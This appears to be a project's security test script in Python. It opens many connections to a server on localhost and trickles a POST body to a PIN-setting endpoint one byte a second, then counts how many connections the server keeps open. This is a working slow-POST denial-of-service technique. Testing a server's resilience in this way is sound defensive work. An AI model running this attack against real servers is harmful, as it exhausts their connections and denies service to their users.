# Opens N connections from one address, each trickling a POST body a byte a
# second, and prints how many the server keeps open (docs/security.md).
# Usage, with the server on 127.0.0.1:18099: ulimit -n 4096; python3 dos-trickle.py 2000
import socket,time,sys
n=int(sys.argv[1]); socks=[]
for i in range(n):
    s=socket.create_connection(("127.0.0.1",18099)); s.sendall(b"POST /setfacialidpincode HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 100000\r\n\r\npin="); socks.append(s)
def alive():
    n=0
    for s in socks:
        if s.fileno()<0: continue
        try:
            d=s.recv(65536, socket.MSG_PEEK|socket.MSG_DONTWAIT)
            if not d: s.close(); continue
            if d.startswith(b"HTTP/"): s.close(); continue
        except BlockingIOError: pass
        except OSError: s.close(); continue
        n+=1
    return n
t0=time.time()
time.sleep(1); print(f"after 1 s: {alive()} of {n} trickling connections open")
while time.time()-t0<70:
    for s in socks:
        if s.fileno()>=0:
            try: s.send(b"1")
            except OSError: s.close()
    time.sleep(1)
    if int(time.time()-t0)%10==0: print(f"after {time.time()-t0:.0f} s: {alive()} open", flush=True)
